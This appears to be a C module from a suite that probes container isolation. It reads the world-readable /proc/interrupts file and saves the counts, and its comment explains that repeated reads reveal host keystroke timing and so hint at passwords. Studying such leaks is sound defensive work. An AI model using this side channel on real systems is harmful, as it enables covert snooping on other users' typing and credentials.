/*
 * /proc/interrupts counts what each device has asked of each processor, and anybody may read it. Read often enough, it tells when a key was
 * pressed at the host's keyboard, and so what a password may be. No namespace is about that.
 */
#include "attack.h"

/* argv: where to put what was found. */
void interrupts(char **argv)
{
	char path[PATH_MAX];
	static char counts[65536];
	snprintf(path, sizeof path, "%s/interrupts", proc());
	const int fd = must(open(path, O_RDONLY), "open the count of interrupts");
	bring_home(argv[0], counts, must(read(fd, counts, sizeof counts), "read it"));
}
